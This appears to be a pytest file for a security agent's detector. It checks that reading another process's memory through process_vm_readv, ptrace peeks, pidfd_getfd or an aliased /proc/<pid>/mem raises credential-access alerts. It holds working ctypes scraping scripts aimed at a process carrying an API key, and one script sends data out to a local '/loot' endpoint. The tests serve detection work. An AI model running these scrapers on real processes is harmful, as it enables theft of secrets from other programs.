"""Memory scrapes (issue 14 item 5): another process's memory read with process_vm_readv, a
ptrace attach and peeks, an fd taken with pidfd_getfd, and /proc/<pid>/mem reached through an
alias. Each raises process-credential-access naming the reader, the target and the method, and
the reader's later egress is judged as tainted by what it could have taken.

The target is a sleep in the test cgroup holding a key in its environment; the readers are
python3 through ctypes, as a stealer would do it. The leak scanner checks every output.
"""

import json
import time

import pytest

ALERT_TIMEOUT = 5.0
SETTLE = 0.5

_LIBC = "import ctypes, os, sys\nlibc = ctypes.CDLL(None, use_errno=True)\npid = int(sys.argv[1])\n"

# Reads 16 bytes of the target's stack page range start (any readable address will do: the
# syscall is what is seen, whether the read succeeds or not).
_VM_READV = _LIBC + """
class iovec(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("len", ctypes.c_size_t)]
start = int(open(f"/proc/{pid}/maps").readline().split("-")[0], 16)
buf = ctypes.create_string_buffer(16)
local, remote = iovec(ctypes.addressof(buf), 16), iovec(start, 16)
libc.process_vm_readv.argtypes = [ctypes.c_int, ctypes.c_void_p, ctypes.c_ulong,
                                  ctypes.c_void_p, ctypes.c_ulong, ctypes.c_ulong]
n = libc.process_vm_readv(pid, ctypes.byref(local), 1, ctypes.byref(remote), 1, 0)
sys.exit(0 if n == 16 else 3)
"""

# Attaches, peeks a few hundred words (a dumper's pattern), detaches.
_PTRACE = _LIBC + """
libc.ptrace.restype = ctypes.c_long
libc.ptrace.argtypes = [ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p]
if libc.ptrace(16, pid, None, None) != 0:
    sys.exit(4)
os.waitpid(pid, 0)
start = int(open(f"/proc/{pid}/maps").readline().split("-")[0], 16)
for i in range(300):
    libc.ptrace(2, pid, ctypes.c_void_p(start + 8 * i), None)
libc.ptrace(17, pid, None, None)
"""

_PIDFD_GETFD = _LIBC + """
pidfd = os.pidfd_open(pid)
fd = libc.syscall(438, pidfd, 1, 0)
sys.exit(0 if fd >= 0 else 5)
"""


def _redacted(agent, alerts) -> str:
    return agent.registry.redact(json.dumps(alerts, indent=1))[:4000]


def _access_alert(agent, access):
    def predicate(alert):
        return (alert.get("kind") == "process-credential-access" and
                (alert.get("target") or {}).get("access") == access)
    alerts = agent.wait_for_alerts(predicate, timeout=ALERT_TIMEOUT)
    assert alerts, f"no process-credential-access alert for {access}\n{agent.diagnostics()}"
    return alerts


@pytest.fixture
def target(clients, registry):
    """A sleep in the test cgroup with a key in its environment: what a stealer reaches for."""
    proc = clients.start(["sleep", "30"], env={"OPENAI_API_KEY": registry.new("openai")})
    time.sleep(SETTLE)
    yield proc
    proc.kill()
    proc.communicate()


def _check(alert, reader_pid, target, access):
    assert alert["process"]["pid"] == reader_pid
    assert alert["process"]["comm"] == "python3"
    assert alert["target"]["pid"] == target.pid
    assert alert["target"]["access"] == access
    assert alert["target"]["comm"] == "sleep"
    assert alert["target"]["uid"] == 0
    assert "OPENAI_API_KEY" in alert["target"]["credential_env"]
    assert alert["severity"] == "high"  # the target holds a credential variable


def test_process_vm_readv_of_another_process_alerts_naming_target_and_method(
        agent, clients, target):
    reader = clients.run(["python3", "-c", _VM_READV, str(target.pid)])
    [alert] = _access_alert(agent, "process_vm_readv")
    _check(alert, reader.pid, target, "process_vm_readv")
    assert (f"read the memory of pid {target.pid} (sleep) with process_vm_readv"
            in alert["summary"]), _redacted(agent, alert)


def test_ptrace_attach_and_peeks_alert_once_and_count_the_repeats(agent, clients, target):
    reader = clients.run(["python3", "-c", _PTRACE, str(target.pid)])
    alerts = _access_alert(agent, "ptrace")
    time.sleep(1.0)
    alerts = [a for a in agent.alerts() if (a.get("target") or {}).get("access") == "ptrace"]
    # 301 requests within a second: one event left the kernel, the rest were counted.
    assert len(alerts) == 1, _redacted(agent, alerts)
    _check(alerts[0], reader.pid, target, "ptrace")
    assert f"attached to pid {target.pid} (sleep) with ptrace" in alerts[0]["summary"]
    assert agent.flat_stats().get("kernel.memory_scrape_repeats", 0) >= 299, agent.diagnostics()


def test_pidfd_getfd_of_another_process_alerts(agent, clients, target):
    reader = clients.run(["python3", "-c", _PIDFD_GETFD, str(target.pid)])
    [alert] = _access_alert(agent, "pidfd_getfd")
    _check(alert, reader.pid, target, "pidfd_getfd")
    assert f"took fd 1 of pid {target.pid} (sleep) with pidfd_getfd" in alert["summary"]


def test_mem_opened_through_a_thread_directory_and_a_symlink_alerts(
        agent, clients, target, scratch):
    link = scratch / "innocent"
    link.symlink_to(f"/proc/self/root/proc/{target.pid}/task/{target.pid}/mem")
    reader = clients.run(["python3", "-c", f"open({str(link)!r}, 'rb').close()"])
    [alert] = _access_alert(agent, "mem")
    _check(alert, reader.pid, target, "mem")


def test_a_scraper_that_then_sends_data_out_raises_tainted_egress(
        agent, clients, target, http_server):
    # Reads the target's memory, then posts bytes that match nothing (as if encrypted).
    script = _VM_READV.replace("sys.exit(0 if n == 16 else 3)", "") + (
        "import urllib.request\n"
        "urllib.request.urlopen(urllib.request.Request(sys.argv[2], data=os.urandom(64)),"
        " timeout=15).read()\n")
    reader = clients.run(["python3", "-c", script, str(target.pid),
                          http_server.url("127.0.0.1", "/loot")])
    http_server.wait_for_requests(1)
    alerts = agent.wait_for_alerts(lambda a: a.get("kind") == "tainted-egress",
                                   timeout=ALERT_TIMEOUT)
    assert alerts, f"no tainted-egress alert\n{agent.diagnostics()}"
    alert = alerts[0]
    assert alert["process"]["pid"] == reader.pid
    assert f"after reading the memory of pid {target.pid} (sleep)" in alert["summary"], (
        _redacted(agent, alert))
